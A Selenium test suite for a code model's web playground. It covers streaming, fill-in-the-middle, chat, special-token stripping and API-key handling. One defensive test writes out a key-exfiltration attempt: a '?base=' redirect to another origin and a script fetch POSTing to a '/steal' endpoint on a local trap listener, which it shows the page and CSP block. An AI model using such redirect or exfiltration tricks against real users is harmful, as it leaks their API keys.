"""The web playground (codeforge/serve/static/playground.html) in a real headless
browser against the real server.

A tiny run is trained, `python -m codeforge serve` is started on a free port, and Debian's chromium, driven by
Selenium through chromium-driver, loads the page the server gives at `/`: the model's name and context length
appear, a completion streams into #output in more than one step, fill-in-the-middle sends the suffix, chat
adds the two turns, a server error is shown in the page, and a screenshot is saved to the test's tmp_path.
"""

from __future__ import annotations

import importlib.util
import json
import os
import shutil
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest

from conftest import free_port, wait_healthy

CHROMIUM = next((p for p in map(shutil.which, ("chromium", "chromium-browser", "google-chrome")) if p), None)
CHROMEDRIVER = shutil.which("chromedriver")


def _has_server() -> bool:
    """codeforge.serve as a real package: its directory alone (static/ holds the page) is only a namespace."""
    spec = importlib.util.find_spec("codeforge.serve")
    return spec is not None and spec.origin is not None


pytestmark = [
    pytest.mark.skipif(CHROMIUM is None or CHROMEDRIVER is None,
                       reason="needs a headless browser: apt-get install chromium chromium-driver"),
    pytest.mark.skipif(importlib.util.find_spec("selenium") is None,
                       reason="needs selenium: pip install -e '.[dev]'"),
    pytest.mark.skipif(not _has_server(), reason="codeforge.serve (the HTTP server) is not in this checkout"),
]

# Records what the page sends (test-side instrumentation: the page calls the global fetch at call time) and
# every length #output takes while a reply streams in.
INSTRUMENT = """
window.__requests = [];
const realFetch = window.fetch;
window.fetch = (url, opts) => {
  window.__requests.push({url: String(url), body: opts && opts.body ? JSON.parse(opts.body) : null,
                          headers: opts && opts.headers ? opts.headers : {}});
  return realFetch(url, opts);
};
window.__lengths = [];
new MutationObserver(() => window.__lengths.push(document.getElementById('output').textContent.length))
  .observe(document.getElementById('output'), {childList: true, characterData: true, subtree: true});
"""


def _get_json(url: str):
    with urllib.request.urlopen(url, timeout=10) as r:
        return json.load(r)


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory, data_dir) -> Path:
    from codeforge.cli import main
    out = tmp_path_factory.mktemp("playground") / "run"
    rc = main(["train", "--data", str(data_dir), "--out", str(out), "--n-layer", "1", "--n-head", "2",
               "--n-embd", "32", "--block-size", "64", "--max-iters", "2", "--device", "cpu",
               "--no-progress"])
    assert rc == 0
    return out


@pytest.fixture(scope="module")
def server(run_dir, tmp_path_factory):
    """The real server as a subprocess; yields its base URL once /health answers."""
    port = free_port()
    log_path = tmp_path_factory.mktemp("serve-log") / "serve.log"
    env = dict(os.environ, PYTHONUNBUFFERED="1")
    with open(log_path, "wb") as log:
        proc = subprocess.Popen([sys.executable, "-m", "codeforge", "serve", "--run", str(run_dir),
                                 "--port", str(port)], stdout=log, stderr=subprocess.STDOUT, env=env)
    base = f"http://127.0.0.1:{port}"
    try:
        wait_healthy(proc, base, log_path, "codeforge serve")
        yield base
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


@pytest.fixture(scope="module")
def browser():
    from selenium import webdriver
    from selenium.webdriver.chrome.options import Options
    from selenium.webdriver.chrome.service import Service
    opts = Options()
    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu",
                "--window-size=1280,900", "--lang=en-US"):
        opts.add_argument(arg)
    opts.binary_location = CHROMIUM
    opts.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(options=opts, service=Service(executable_path=CHROMEDRIVER))
    driver.set_page_load_timeout(30)
    try:
        yield driver
    finally:
        driver.quit()


def _by_id(d, id_):
    from selenium.webdriver.common.by import By
    return d.find_element(By.ID, id_)


def _set(d, id_, value: str) -> None:
    el = _by_id(d, id_)
    el.clear()
    el.send_keys(value)


def _mode(d, value: str) -> None:
    from selenium.webdriver.support.ui import Select
    Select(_by_id(d, "mode")).select_by_value(value)


def _open(d, base: str) -> None:
    """Load the page fresh, wait for the model's name, instrument fetch and #output."""
    from selenium.webdriver.support.ui import WebDriverWait
    d.get_log("browser")  # drop what earlier pages logged
    d.get(base + "/")
    WebDriverWait(d, 30).until(lambda d: _by_id(d, "model").text not in ("", "loading…"))
    d.execute_script(INSTRUMENT)
    _set(d, "max_tokens", "48")
    _set(d, "temperature", "1.0")
    _set(d, "seed", "0")


def _send_and_wait(d) -> str:
    """Click send and wait until the page says done, stopped or error; return that state."""
    from selenium.webdriver.support.ui import WebDriverWait
    _by_id(d, "send").click()
    WebDriverWait(d, 120, poll_frequency=0.05).until(
        lambda d: _by_id(d, "status").get_attribute("data-state") in ("done", "stopped", "error"))
    return _by_id(d, "status").get_attribute("data-state")


def _severe_console(d) -> list[str]:
    return [e["message"] for e in d.get_log("browser") if e["level"] == "SEVERE"]


def test_page_shows_model_name_and_context_length(server, browser):
    models = _get_json(server + "/v1/models")["data"]
    _open(browser, server)
    assert _by_id(browser, "model").text == models[0]["id"]
    m = models[0]
    ctx = m.get("context_length") or (m.get("meta") or {}).get("context_length") or m.get("max_model_len")
    assert ctx == 64, f"the server does not say the run's context length (64): {m}"
    assert _by_id(browser, "context-length").text == "64"
    assert _by_id(browser, "error").text == ""
    # the examples follow the run's language; a pretrained-only run says in chat
    # mode what it can and cannot do
    want = {"python": "def fibonacci(n):", "go": "func Fibonacci(n int) int {"}[m["language"]]
    assert _by_id(browser, "prompt").get_attribute("placeholder") == want and m["chat"] is False
    assert not _by_id(browser, "chat-note").is_displayed()
    _mode(browser, "chat")
    assert (
        _by_id(browser, "chat-note").is_displayed() and "only pretrained" in _by_id(browser, "chat-note").text
    )
    _mode(browser, "completion")
    assert _severe_console(browser) == []


def test_run_language_follows_the_data(tmp_path, tokenizer_dir):
    """What /v1/models reports as the run's language: the one language the data was prepared with, else what
    most of its documents are written in (a user's Go repository is read as every known language)."""
    from codeforge.corpus import CorpusOptions
    from codeforge.data.shards import prepare
    from codeforge.serve.server import run_language
    from codeforge.tokenizer import CodeTokenizer
    src = tmp_path / "golib"
    src.mkdir()
    for i in range(12):
        (src / f"f{i}.go").write_text(f"package lib\n\n// F{i} returns x.\nfunc "
                                      f"F{i}(x int) int {{\n\treturn x + {i}\n}}\n")
    (src / "README.md").write_text("# lib\n\nA small library.\n")
    tok = CodeTokenizer.load(tokenizer_dir)
    for langs, name in ((None, "any"), (["go"], "go")):
        data = tmp_path / f"data-{name}"
        prepare([str(src)], tokenizer_dir, data, CorpusOptions(languages=langs, val_fraction=0.3),
                log=lambda m: None)
        assert run_language({"train": {"data": str(data)}}, tok) == "go"
    assert run_language({"train": {"data": str(tmp_path / "gone")}}, tok) is None


def test_completion_streams_into_output_in_steps(server, browser, tmp_path):
    _open(browser, server)
    _set(browser, "prompt", "def main():\n    ")
    assert _send_and_wait(browser) == "done", _by_id(browser, "error").text
    out = _by_id(browser, "output")
    text = browser.execute_script("return document.getElementById('output').textContent")
    assert text, "no generated text arrived in #output"
    # The request: streamed, with the sampling settings from the form.
    (req,) = browser.execute_script("return window.__requests")
    assert req["url"].endswith("v1/completions")
    body = req["body"]
    assert body["stream"] is True and body["max_tokens"] == 48 and body["seed"] == 0
    assert body["temperature"] == 1.0 and body["prompt"] == "def main():\n    " and "suffix" not in body
    # Streamed: more than one server-sent event, and #output took more than one non-empty length on the way.
    assert int(out.get_attribute("data-events")) > 1
    lengths = [n for n in browser.execute_script("return window.__lengths") if n > 0]
    assert len(set(lengths)) >= 2, f"#output did not grow in steps: {lengths}"
    assert lengths == sorted(lengths)
    assert "finish" in _by_id(browser, "stats").text
    assert _severe_console(browser) == []
    shot = tmp_path / "playground-completion.png"
    assert browser.save_screenshot(str(shot))
    data = shot.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 10_000
    print(f"screenshot: {shot}")


def test_fill_in_the_middle_sends_the_suffix(server, browser, tmp_path):
    _open(browser, server)
    _mode(browser, "fim")
    assert _by_id(browser, "suffix").is_displayed()
    _set(browser, "prompt", "def add(a, b):\n    ")
    _set(browser, "suffix", "\n    return c\n")
    assert _send_and_wait(browser) == "done", _by_id(browser, "error").text
    (req,) = browser.execute_script("return window.__requests")
    assert req["url"].endswith("v1/completions")
    assert req["body"]["prompt"] == "def add(a, b):\n    " and req["body"]["suffix"] == "\n    return c\n"
    middle = browser.execute_script("return document.getElementById('output').textContent")
    filled = browser.execute_script("return document.getElementById('fim-view').textContent")
    assert filled == "def add(a, b):\n    " + middle + "\n    return c\n"
    shot = tmp_path / "playground-fim.png"
    assert browser.save_screenshot(str(shot)) and shot.stat().st_size > 10_000
    print(f"screenshot: {shot}")


def test_chat_adds_both_turns(server, browser):
    from selenium.webdriver.common.by import By
    _open(browser, server)
    _mode(browser, "chat")
    _set(browser, "chat-input", "Write a function that adds two numbers.")
    state = _send_and_wait(browser)
    (req,) = browser.execute_script("return window.__requests")
    assert req["url"].endswith("v1/chat/completions") and req["body"]["stream"] is True
    assert req["body"]["messages"] == [{"role": "user", "content": "Write a function that adds two numbers."}]
    assert state == "done", _by_id(browser, "error").text
    roles = [m.get_attribute("class") for m in browser.find_elements(By.CSS_SELECTOR, "#messages .msg")]
    assert roles == ["msg user", "msg assistant"]


def test_server_error_is_shown_from_the_openai_error_shape(server, browser):
    _open(browser, server)
    _set(browser, "max_tokens", "0")  # not a valid request: the server answers 4xx with an error body
    _set(browser, "prompt", "x")
    assert _send_and_wait(browser) == "error"
    err = _by_id(browser, "error")
    assert err.is_displayed() and err.text.strip()
    assert not err.text.startswith("HTTP "), f"the error body was not read: {err.text}"


def test_api_key_is_kept_and_sent_as_bearer(server, browser):
    _open(browser, server)
    _set(browser, "api-key", "sk-playground-test")
    browser.refresh()
    _open(browser, server)
    assert _by_id(browser, "api-key").get_attribute("value") == "sk-playground-test"
    _set(browser, "prompt", "x")
    _set(browser, "max_tokens", "2")
    _send_and_wait(browser)  # the server may or may not check keys; the header is what is tested here
    (req,) = browser.execute_script("return window.__requests")
    assert req["headers"].get("Authorization") == "Bearer sk-playground-test"
    _set(browser, "api-key", "")
    assert browser.execute_script("return localStorage.getItem('codeforge.playground.apiKey')") is None


# -- special tokens and the stats line (issue 29) ------------------------------------------------------------

# A stand-in for the server's /v1/completions (the tiny model seldom emits a special token on its own): the
# reply's text holds <fim_middle>, <|endoftext|> and <|im_end|>, one of them cut between two network reads.
FAKE_COMPLETION = """
window.__shown = [];
new MutationObserver(() => window.__shown.push(document.getElementById('output').textContent))
  .observe(document.getElementById('output'), {childList: true, characterData: true, subtree: true});
const pieces = arguments[0];
const before = window.fetch;
window.fetch = (url, opts) => {
  if (!String(url).endsWith('v1/completions')) return before(url, opts);
  const enc = new TextEncoder();
  let i = 0;
  const body = new ReadableStream({
    async pull(ctrl) {
      await new Promise((r) => setTimeout(r, 30));  // one network read per piece
      if (i < pieces.length) ctrl.enqueue(enc.encode(pieces[i++])); else ctrl.close();
    }});
  return Promise.resolve(new Response(body, {status: 200, headers: {'content-type': 'text/event-stream'}}));
};
"""


def _sse(obj) -> str:
    return "data: " + json.dumps(obj) + "\n\n"


def _chunk(text, finish=None) -> str:
    return _sse({"id": "x", "object": "text_completion", "choices": [{"index": 0, "text": text,
                                                                       "finish_reason": finish}]})


def _wait_specials(d, source: str) -> None:
    from selenium.webdriver.support.ui import WebDriverWait
    WebDriverWait(d, 10).until(lambda d: d.execute_script("return "
                                                          "window.codeforgePlayground.specialsSource()")
                               == source)


def test_special_tokens_come_from_tokenizer_info_and_are_stripped(server, browser):
    info = _get_json(server + "/tokenizer_info")
    assert {"<fim_middle>", "<|endoftext|>", "<|im_end|>"} <= set(info["special_tokens"])
    _open(browser, server)
    _wait_specials(browser, "server")
    tokens = browser.execute_script("return window.codeforgePlayground.specialTokens()")
    assert sorted(tokens) == sorted(info["special_tokens"])
    strip = "return window.codeforgePlayground.stripSpecial(arguments[0], arguments[1])"
    assert browser.execute_script(strip, "a<fim_middle>b<|endoftext|>c<|im_end|>\nd<fim_suffix>",
                                  False) == "abc\nd"
    # what is not a special token stays, a tag-like or a comparison included
    code = "if a < b and x<y: return '<div>' + '<|not_special|>'"
    assert browser.execute_script(strip, code, False) == code
    # while streaming, a tail that may be a special token's start waits for the
    # next event; at the end it shows
    assert browser.execute_script(strip, "x = 1\n<fim_mi", True) == "x = 1\n"
    assert browser.execute_script(strip, "x = 1\n<fim_mi", False) == "x = 1\n<fim_mi"
    assert browser.execute_script(strip, "a < b", True) == "a < b"


@pytest.mark.parametrize("mode", ["completion", "fim"])
def test_completion_and_fim_output_never_shows_special_tokens(server, browser, mode):
    _open(browser, server)
    _wait_specials(browser, "server")
    pieces = [_chunk("def f():\n    return 1<fim_"), _chunk("middle>\n"), _chunk("<|endoftext|>"),
              _chunk("x = 2<|im_end|>", "stop") + "data: [DONE]\n\n"]
    browser.execute_script(FAKE_COMPLETION, pieces)
    _mode(browser, mode)
    _set(browser, "prompt", "def g():\n")
    if mode == "fim":
        _set(browser, "suffix", "\n# end\n")
    assert _send_and_wait(browser) == "done", _by_id(browser, "error").text
    out = browser.execute_script("return document.getElementById('output').textContent")
    assert out == "def f():\n    return 1\nx = 2"
    shown = browser.execute_script("return window.__shown")
    assert len(shown) > 1, shown  # it streamed, and no step showed a special token or a piece of one
    assert not [s for s in shown if "<" in s], shown
    if mode == "fim":
        filled = browser.execute_script("return document.getElementById('fim-view').textContent")
        assert filled == "def g():\n" + out + "\n# end\n"
    assert "finish: stop" in _by_id(browser, "stats").text


def test_builtin_special_tokens_when_tokenizer_info_does_not_answer(server, browser):
    browser.execute_cdp_cmd("Network.enable", {})
    browser.execute_cdp_cmd("Network.setBlockedURLs", {"urls": ["*tokenizer_info*"]})
    try:
        _open(browser, server)
        browser.execute_async_script("window.codeforgePlayground.specialsSettled().then(arguments[0])")
        assert browser.execute_script("return window.codeforgePlayground.specialsSource()") == "builtin"
        tokens = browser.execute_script("return window.codeforgePlayground.specialTokens()")
        assert {"<fim_prefix>", "<fim_middle>", "<fim_suffix>", "<|endoftext|>", "<|im_start|>",
                "<|im_end|>"} <= set(tokens)
        assert browser.execute_script("return window.codeforgePlayground.stripSpecial(arguments[0])",
                                      "<|im_start|>x<|im_end|><|endoftext|>") == "x"
    finally:
        browser.execute_cdp_cmd("Network.setBlockedURLs", {"urls": []})
        browser.get_log("browser")  # the blocked request's console error is expected


def test_the_real_servers_completion_shows_no_special_tokens(server, browser):
    _open(browser, server)
    _wait_specials(browser, "server")
    specials = browser.execute_script("return window.codeforgePlayground.specialTokens()")
    _set(browser, "prompt", "<|endoftext|>def main():\n")
    assert _send_and_wait(browser) == "done", _by_id(browser, "error").text
    out = browser.execute_script("return document.getElementById('output').textContent")
    assert not [t for t in specials if t in out], out


def test_stats_line_is_reset_on_mode_switch(server, browser):
    _open(browser, server)
    _set(browser, "prompt", "def main():\n    ")
    assert _send_and_wait(browser) == "done", _by_id(browser, "error").text
    assert "finish" in _by_id(browser, "stats").text
    _mode(browser, "fim")
    assert _by_id(browser, "stats").text == ""
    assert _by_id(browser, "status").get_attribute("data-state") == "idle"
    _set(browser, "suffix", "\n")
    assert _send_and_wait(browser) == "done", _by_id(browser, "error").text
    assert "finish" in _by_id(browser, "stats").text
    _mode(browser, "chat")
    assert _by_id(browser, "stats").text == ""
    _mode(browser, "completion")
    assert _by_id(browser, "stats").text == ""
    assert _severe_console(browser) == []


# -- the API key stays with the server that served the page (issue 42) ---------------------------------------

def test_the_key_never_goes_to_another_origin(server, browser):
    """Found in the second hostile review: with a key stored, `/?base=https://elsewhere` sent
    `Authorization: Bearer <key>` to that host on load and with everything typed after. Now the page refuses a
    base of another origin (and says so), and the server's Content-Security-Policy stops any connection to
    another origin, even one a script would open. A listener on another port records whatever reaches it."""
    import threading
    from selenium.webdriver.support.ui import WebDriverWait
    trap = socket.socket()
    trap.bind(("127.0.0.1", 0))
    trap.listen(8)
    trap.settimeout(0.2)
    port, reached, stop = trap.getsockname()[1], [], threading.Event()

    def listen():
        while not stop.is_set():
            try:
                conn, _ = trap.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    reached.append(conn.recv(65536))
                except OSError:
                    reached.append(b"")
    th = threading.Thread(target=listen, daemon=True)
    th.start()
    try:
        _open(browser, server)
        _set(browser, "api-key", "sk-must-stay-home")
        browser.get(f"{server}/?base=http://127.0.0.1:{port}")
        WebDriverWait(browser, 30).until(lambda d: _by_id(d, "model").text not in ("", "loading…"))
        assert "names another server" in _by_id(browser, "error").text
        browser.execute_script(INSTRUMENT)
        _set(browser, "prompt", "x")
        _set(browser, "max_tokens", "2")
        assert _send_and_wait(browser) == "done"  # the page still works, against its own server
        urls = browser.execute_script("return window.__requests.map((r) => r.url)")
        assert urls and not any(str(port) in u for u in urls), urls
        # a script that tries anyway is stopped by the browser (connect-src 'self')
        got = browser.execute_async_script(f"""const done = arguments[arguments.length - 1];
            fetch('http://127.0.0.1:{port}/steal', {{method: 'POST', body: '{{"k": 1}}'}})
              .then(() => done('sent'), (e) => done('blocked: ' + e));""")
        assert got.startswith("blocked"), got
        time.sleep(0.5)
        assert reached == [], reached  # nothing, not even a connection, reached the other origin
        assert _severe_console(browser) == [] or all("steal" in m for m in _severe_console(browser))
        # the server's own origin followed by "//other": fetch would read
        # "//127.0.0.1:PORT/..." as another host
        # (found in review; only the CSP stopped it); the page now keeps one leading slash of the path
        browser.get(f"{server}/?base={server}//127.0.0.1:{port}")
        WebDriverWait(browser, 30).until(lambda d: _by_id(d, "model").text not in ("", "loading…"))
        browser.execute_script(INSTRUMENT)
        _set(browser, "prompt", "x")
        _send_and_wait(browser)
        urls = browser.execute_script("return window.__requests.map((r) => r.url)")
        assert urls and all(u.startswith("/") and not u.startswith("//") for u in urls), urls
        time.sleep(0.3)
        assert reached == [], reached
        # a base of this same origin (a path prefix) is still taken
        browser.get(f"{server}/?base={server}/")
        WebDriverWait(browser, 30).until(lambda d: _by_id(d, "model").text not in ("", "loading…"))
        assert _by_id(browser, "error").text == ""
    finally:
        stop.set()
        th.join(5)
        trap.close()
        browser.execute_script("localStorage.clear()")
